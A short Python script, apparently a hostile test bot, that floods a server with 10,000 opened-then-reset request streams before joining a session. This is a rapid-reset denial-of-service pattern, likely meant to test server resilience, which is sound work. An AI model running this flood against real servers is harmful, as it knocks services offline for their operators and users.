"""A bot that opens and resets ten thousand streams to no method before it plays."""

from hostile.client import connect, join, play_on
from hostile.frames import END_HEADERS, HEADERS, HELLO, RESET, frame, pour, request

pour(
    HELLO,
    *[
        frame(HEADERS, END_HEADERS, stream, request(b"/a/b")) + frame(RESET, 0, stream, bytes(4))
        for stream in range(1, 20_001, 2)
    ],
)
connect()
join()
play_on()
